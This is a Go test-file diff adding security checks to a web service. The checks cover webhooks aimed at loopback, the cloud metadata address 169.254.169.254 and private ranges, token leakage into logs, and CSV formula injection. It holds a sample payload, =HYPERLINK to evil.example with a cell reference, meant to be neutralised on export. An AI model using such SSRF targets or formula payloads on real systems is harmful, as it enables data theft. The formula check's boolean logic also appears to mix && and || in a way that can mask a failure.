@@ -10,6 +10,7 @@ import (
 	"net"
 	"net/http"
 	"net/http/cookiejar"
+	"net/http/httptest"
 	"net/url"
 	"os"
 	"regexp"
@@ -34,7 +35,8 @@ const (
 func TestSecurityInput(t *testing.T) {
 	h := newHarness(t, "API_KEYS=faults:"+"faults-key-0123456789abcdef:admin,mailer:"+mailerKey+":render,issuer:"+issuerKey+":issue",
 		"ISSUE_RATE_LIMIT=3/m", "ADMIN_PASSWORD="+adminPass, "HTTP_READ_TIMEOUT=2s", "HTTP_STREAM_IDLE=2s",
-		"MAX_UPLOAD_BYTES=67108864", "TMPDIR="+t.TempDir())
+		"MAX_UPLOAD_BYTES=67108864", "TMPDIR="+t.TempDir(),
+		"WEBHOOK_ALLOW_PRIVATE=") // this test's webhooks are held to public addresses
 	h.startWeb()
 	gid := h.createGroup("Secure")
 	h.uploadCodes(gid, "FLTK", 50)
@@ -44,6 +46,7 @@ func TestSecurityInput(t *testing.T) {
 	h.bodyChecks(gid)
 	h.memoryChecks(gid)
 	h.sessionChecks()
+	h.webhookChecks(gid)
 	h.smallChecks()
 	c := newChecks(t, "leak scan after the security input")
 	defer c.done()
@@ -344,6 +347,54 @@ func (h *harness) sessionChecks() {
 	c.check("the right password waits too", h.signIn(cl, adminPass) == 429, "")
 	c.note("answers %v", seen)
 	c.check("server up", h.up(), "web down")
+	c.done()
+}
+
+// webhookChecks: alert webhooks aimed at loopback, metadata and private addresses are
+// refused when saved; one stored anyway (a name that resolved elsewhere when saved) is
+// refused at dial time, and neither the answer, the stored error nor the logs carry
+// the URL's token.
+func (h *harness) webhookChecks(gid int64) {
+	var hits atomic.Int64
+	recv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { hits.Add(1) }))
+	defer recv.Close()
+	port := recv.Listener.Addr().(*net.TCPAddr).Port
+	c := newChecks(h.t, "alert_webhook to loopback, metadata and private addresses")
+	for _, u := range []string{recv.URL + "/alert?token=FLTTOKEN-1", "http://169.254.169.254/latest/meta-data/", "http://10.0.0.1/hook",
+		fmt.Sprintf("http://[::1]:%d/", port), fmt.Sprintf("http://localhost:%d/x?token=FLTTOKEN-1", port), "http://100.64.0.1/"} {
+		c.tried++
+		body, _ := json.Marshal(map[string]string{"alert_webhook": u})
+		a := h.send("PATCH", fmt.Sprintf("/v1/groups/%d", gid), "application/json", body, "default")
+		c.check("400 invalid_field", a.status == 400 && a.code == "invalid_field" && strings.Contains(string(a.raw), "not allowed"), "%s: %d %s", u, a.status, a.raw)
+		c.check("no token in the answer", !strings.Contains(string(a.raw), "FLTTOKEN"), "%s", a.raw)
+	}
+	c.done()
+
+	c = newChecks(h.t, "alert webhook stored on loopback, delivered by alerts check")
+	c.tried = 1
+	h.db.MustExec(`UPDATE groups SET alert_webhook = $2, low_balance_threshold = 1000000000 WHERE id = $1`, gid, recv.URL+"/alert?token=FLTTOKEN-2")
+	p := h.start("alerts check", nil, "alerts", "check")
+	<-p.done
+	var lastError string
+	h.db.Get(&lastError, `SELECT d.last_error FROM alert_deliveries d JOIN alerts a ON a.id = d.alert_id
+		WHERE a.group_id = $1 AND d.channel = 'webhook'`, gid)
+	c.check("not posted", hits.Load() == 0, "%d hits", hits.Load())
+	c.check("last_error names the address class", strings.Contains(lastError, "loopback"), "%q (%v: %s)", lastError, p.err, p.out.String())
+	c.check("no token in last_error or the log", !strings.Contains(lastError+p.out.String(), "FLTTOKEN"), "%q", lastError)
+	h.db.MustExec(`UPDATE groups SET alert_webhook = '', low_balance_threshold = NULL WHERE id = $1`, gid)
+	c.done()
+
+	c = newChecks(h.t, "codes uploaded as spreadsheet formulas, then exported")
+	c.tried = 1
+	g2 := h.createGroup("Formulas")
+	h.send("POST", fmt.Sprintf("/v1/groups/%d/codes", g2), "text/plain", []byte("=HYPERLINK(\"https://evil.example/?\"&A2)\n+FLTF-00000001\n@FLTF-00000002\n"), "default")
+	st, b := h.do("GET", fmt.Sprintf("/v1/groups/%d/unused.csv", g2), "", nil, "default")
+	lines := strings.Split(strings.TrimSpace(string(b)), "\n")
+	ok := st == 200 && len(lines) == 4
+	for _, l := range lines[1:] {
+		ok = ok && strings.HasPrefix(l, "'") || strings.HasPrefix(l, `"'`)
+	}
+	c.check("every formula cell behind an apostrophe", ok, "%d %q", st, b)
 	c.done()
 }
 
